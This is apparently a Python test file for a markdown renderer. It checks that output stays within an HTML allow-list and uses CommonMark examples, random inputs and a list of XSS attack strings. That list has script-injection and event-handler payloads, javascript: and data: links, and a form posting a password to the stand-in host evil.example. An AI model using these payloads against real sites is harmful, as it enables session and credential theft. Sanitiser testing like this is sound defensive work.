"""Markdown becomes allow-listed HTML whatever is written: the CommonMark examples, an attack corpus, random texts."""

import json
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.lib.markdown import render

SPEC = json.loads((Path(__file__).parents[1] / "data" / "commonmark-0.31.2.json").read_text(encoding="utf-8"))
ELEMENTS = {
    "a",
    "abbr",
    "b",
    "br",
    "code",
    "del",
    "em",
    "i",
    "kbd",
    "s",
    "strong",
    "sub",
    "sup",
    "blockquote",
    "dd",
    "div",
    "dl",
    "dt",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "ul",
    "caption",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"scope"}, "td": {"colspan", "rowspan"}, "ol": {"start"}}
SCHEMES = {"", "http", "https", "mailto", "tel"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](y)',
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover="alert(1)>',
    "`<script>alert(1)</script>`",
    '```html" onload="alert(1)\n<script>\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "https://a.example/<script>alert(1)</script>",
    'http://a.example/?q="><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>alert(1)</script>",
    "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
    "x\0<script\0>alert(1)</script>",
]
PIECES = st.sampled_from(
    [
        "[",
        "](",
        ")",
        "!",
        "<",
        ">",
        "`",
        "```",
        "*",
        "_",
        "#",
        "|",
        "-",
        "\n",
        "\n\n",
        "\\",
        "&",
        ";",
        '"',
        "'",
        ":",
        "javascript:",
        "data:text/html,",
        "https://a.example",
        "onerror=",
        "<script>",
        "</p>",
        "<svg",
        "&#x6a;",
        "href=",
    ]
)
TEXTS = st.lists(PIECES | st.text(max_size=8), max_size=30).map("".join)


def assert_safe(source: str) -> None:
    tree = html5lib.parse(render(source), treebuilder="etree", namespaceHTMLElements=False)
    body = tree.find("body")
    assert not list(tree.find("head")), source
    for element in list(body.iter())[1:]:
        assert element.tag in ELEMENTS, (element.tag, source)
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set()), (element.attrib, source)
        _assert_leads_somewhere_safe(element, source)


def _assert_leads_somewhere_safe(element: Any, source: str) -> None:
    if "href" not in element.attrib:
        return
    address = "".join(char for char in element.attrib["href"] if char > " ")
    scheme = urlsplit(address).scheme.lower() if "[" not in address else address.partition(":")[0].lower()
    assert scheme in SCHEMES, (address, source)
    assert element.attrib["rel"] == "nofollow ugc noopener noreferrer"


def test_every_example_of_commonmark_is_safe() -> None:
    assert len(SPEC) > 600
    for source in SPEC:
        assert_safe(source)


@pytest.mark.parametrize("source", ATTACKS)
def test_attacks_come_out_as_words(source: str) -> None:
    assert_safe(source)
    assert_safe(f"> - {source}\n\n{source}")


@given(TEXTS)
@settings(max_examples=300, deadline=None)
def test_any_text_is_safe(source: str) -> None:
    assert_safe(source)


def test_what_people_write_comes_out_as_they_mean_it() -> None:
    html = render("# Why\n\n- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nhttps://example.org")
    assert "<h2>Why</h2>" in html
    assert "<li><strong>one</strong></li>" in html
    assert "<td>1</td>" in html
    assert '<a href="https://example.org"' in html
